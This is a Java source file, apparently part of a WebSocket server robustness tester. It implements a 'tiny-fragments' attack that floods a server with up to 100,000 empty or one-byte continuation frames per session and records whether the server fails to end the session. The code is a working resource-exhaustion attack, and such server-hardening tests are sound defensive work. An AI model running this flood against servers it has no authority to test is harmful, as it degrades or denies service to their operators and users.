package io.belfry.attack.attacks;

import io.belfry.attack.wire.Frames;
import io.belfry.attack.wire.Wire;
import java.io.IOException;
import java.time.Duration;

/** Messages in fragments of one byte and of none, which never end: each costs the server more than its sender. Immutable. */
record TinyFragments() implements Attack {
    private static final int FRAGMENTS = 100_000;
    private static final int AT_ONCE = 500;

    @Override
    public String name() {
        return "tiny-fragments";
    }

    @Override
    public String sentence() {
        return "messages in endless fragments of one byte and of none, which must end the session";
    }

    @Override
    public void run(Field field) throws IOException {
        int sessions = 0;
        do {
            flood(field, new byte[0], "empty fragments");
            flood(field, new byte[] {' '}, "fragments of one byte");
            sessions += 2;
            Field.rest(Duration.ofMillis(100));
        } while (field.goesOn());
        field.did(sessions + " sessions");
    }

    private static void flood(Field field, byte[] payload, String what) throws IOException {
        byte[] many = Frames.repeated(Frames.frame(Frames.CONTINUATION, payload), AT_ONCE);
        try (Wire wire = field.session()) {
            wire.send(Frames.frame(Frames.TEXT, new byte[] {'{'}));
            for (int sent = 0; sent < FRAGMENTS; sent += AT_ONCE) {
                if (!wire.send(many) || wire.poll().isEnded()) {
                    return;
                }
            }
            if (!wire.awaitEnd(Duration.ofSeconds(1))) {
                field.gaveWay(FRAGMENTS + " " + what + " of one message were taken");
            }
        }
    }
}
